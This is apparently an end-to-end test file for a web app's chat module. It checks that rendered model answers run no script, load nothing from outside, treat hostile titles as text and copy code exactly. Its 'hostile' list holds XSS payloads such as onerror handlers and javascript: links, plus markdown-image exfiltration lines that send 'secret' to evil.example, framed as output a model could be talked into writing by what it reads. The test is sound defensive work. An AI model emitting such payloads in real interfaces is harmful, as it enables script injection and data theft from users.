import type { Page, Route } from 'playwright'
import { describe, expect, test } from 'vitest'
import { chatIn } from '../support/chat.ts'
import { scriptedScene } from '../support/scene.ts'

const { enter, api, stage } = scriptedScene()

async function opened() {
  const { page } = await enter('editor', undefined, { permissions: ['clipboard-read', 'clipboard-write'] })
  const asked = hostsOf(page)
  await page.goto('/backend/chat')
  const module = chatIn(page, 'module')
  await module.message.waitFor()
  return { page, module, asked, clipboard: () => page.evaluate(() => navigator.clipboard.readText()) }
}

/** Origins that the page asks anything of. */
function hostsOf(page: Page): () => string[] {
  const origins = new Set<string>()
  page.on('request', (request) => origins.add(new URL(request.url()).origin))
  return () => [...origins].filter((origin) => origin !== 'null')
}

const away = 'https://evil.example'

/** What a model may be talked into writing by what it reads. */
const hostile = [
  '<script>globalThis.hit = 1</script>',
  '<img src=x onerror="globalThis.hit = 2">',
  `<img src="${away}/a?c=secret">`,
  '<svg onload="globalThis.hit = 3"><animate onbegin="globalThis.hit = 4" attributeName="x"/></svg>',
  `<iframe src="${away}/frame"></iframe><object data="${away}/o"></object><embed src="${away}/e">`,
  '<iframe srcdoc="<script>parent.hit = 5</script>"></iframe>',
  `<link rel="stylesheet" href="${away}/s.css"><style>@import "${away}/i.css";</style>`,
  `<style>:host{background:url(${away}/b)}</style>`,
  `<form action="${away}/f"><button autofocus onfocus="globalThis.hit = 6">Go</button></form>`,
  '<details open ontoggle="globalThis.hit = 7">x</details>',
  `<meta http-equiv="refresh" content="0; url=${away}/m"><base href="${away}/">`,
  `<video src="${away}/v" poster="${away}/p" autoplay></video><audio src="${away}/au"></audio>`,
  `![exfiltrate](${away}/x.png?q=secret)`,
  `![by reference][r]\n\n[r]: ${away}/ref.png`,
  '[click](javascript:globalThis.hit=8)',
  '[click](JaVaScRiPt:globalThis.hit=9)',
  '[click](java\tscript:globalThis.hit=10)',
  '[click](&#106;avascript:globalThis.hit=11)',
  '[click](data:text/html,<script>hit=12</script>)',
  '[click](vbscript:msgbox(1))',
  `[click](//evil.example/protocol-relative)`,
  `[${stageName()}](${away}/phish)`,
  '<javascript:globalThis.hit=13>',
  '`<img src=x onerror=globalThis.hit=14>`',
  '```html\n<img src=x onerror=globalThis.hit=15>\n```',
  '```"><img src=x onerror=globalThis.hit=16>\ncode\n```',
  '| a |\n|---|\n| <img src=x onerror=globalThis.hit=17> |',
  '# <img src=x onerror=globalThis.hit=18>',
  '[pages:3"><img src=x onerror=globalThis.hit=19>]',
  `${'*'.repeat(2_000)}a${'['.repeat(2_000)}`,
  `${'> '.repeat(500)}deep`,
]

function stageName(): string {
  return 'Log in again'
}

test('whatever an answer holds, nothing of it runs and nothing is fetched', async () => {
  const { page, module, asked } = await opened()
  const alerts: string[] = []
  page.on('dialog', (dialog) => {
    alerts.push(dialog.message())
    void dialog.dismiss()
  })
  api().reply({ text: `${hostile.join('\n\n')}\n\nThe end.` })
  await module.ask('Show me what you found')
  await module.answer('The end.').waitFor()
  const links = module.answers.getByRole('link', { name: 'click' })
  const addresses = await links.evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
  for (const summary of await module.answers.locator('summary').all()) await summary.click()

  expect(addresses).toEqual([])
  expect(await page.evaluate(() => (globalThis as { hit?: number }).hit ?? null)).toBe(null)
  expect(alerts).toEqual([])
  expect(asked()).toEqual([stage().origin])
  const live = 'script, img, iframe, object, embed, style, link, form, meta, base, video, audio'
  await expect.poll(() => module.answers.locator(live).count()).toBe(0)
  await expect.poll(() => new URL(page.url()).origin).toBe(stage().origin)
})

test('a link that leads elsewhere names where, and takes nothing along', async () => {
  const { module } = await opened()
  api().reply({ text: `Look at [the manual](${away}/manual) and [the page](/backend/page/3).` })
  await module.ask('Where is it written?')
  await module.answer('Look at').waitFor()
  const link = module.answers.getByRole('link', { name: 'the manual' })

  await module.answers.getByText('(evil.example)').waitFor()
  await expect.poll(() => link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  await expect.poll(() => link.getAttribute('href')).toBe(`${away}/manual`)
})

test('hostile names of conversations, files and instructions are text', async () => {
  const { page, module } = await opened()
  const name = '<img src=x onerror="globalThis.hit = 1">'
  api().always({ text: 'Yes.' })
  await module.ask(name)
  await module.answer('Yes.').waitFor()
  await module.root.getByRole('heading', { name }).waitFor()

  await expect.poll(() => module.own.textContent()).toContain(name)
  expect(await page.evaluate(() => (globalThis as { hit?: number }).hit ?? null)).toBe(null)
})

test('an answer and its code are copied exactly', async () => {
  const { module, clipboard } = await opened()
  const code = 'const a = "<b>" // & more\n\n\tif (a) {\n\t\treturn  1\n\t}'
  const text = `Look:\n\n\`\`\`ts\n${code}\n\`\`\`\n\n| A | B |\n|---|---|\n| 1 | 2 |`
  api().reply({ text })
  await module.ask('Show me code')
  await module.answer('Look:').waitFor()
  await module.root.getByRole('table').getByRole('columnheader', { name: 'A' }).waitFor()
  await module.root.locator('code .t-k').first().waitFor()

  await module.button('Copy').click()
  await expect.poll(clipboard).toBe(code)
  await module.button('Copy answer').click()
  await expect.poll(clipboard).toBe(text)
})

describe('what reads the answers', () => {
  /** A conversation with two answers, and a reload that finds the way to the reader as `through` says. */
  async function reopened(through: (route: Route) => Promise<void>) {
    const { page, module } = await opened()
    api().reply({ text: 'The **first** answer.' })
    api().reply({ text: 'The **second** answer.' })
    await module.ask('One')
    await module.answer('The first answer.').waitFor()
    await module.ask('Two')
    await module.answer('The second answer.').waitFor()
    await page.route('**/assets/markdown-*.js', through)
    const messages = page.waitForResponse(/conversations\/messages/)
    await page.reload()
    await messages
    return module
  }

  test('may come later than they do', async () => {
    const held = Promise.withResolvers<void>()
    const module = await reopened(async (route) => {
      await held.promise
      await route.continue()
    })
    held.resolve()

    await module.answer('The first answer.').waitFor()
    await module.answer('The second answer.').waitFor()
  })

  test('may get lost on the way: the questions stay, and the answers come with the next attempt', async () => {
    let lost = 0
    const module = await reopened((route) => (lost++ === 0 ? route.abort() : route.continue()))

    await module.own.nth(1).waitFor()
    await module.answer('The first answer.').waitFor()
    await module.answer('The second answer.').waitFor()
  })
})
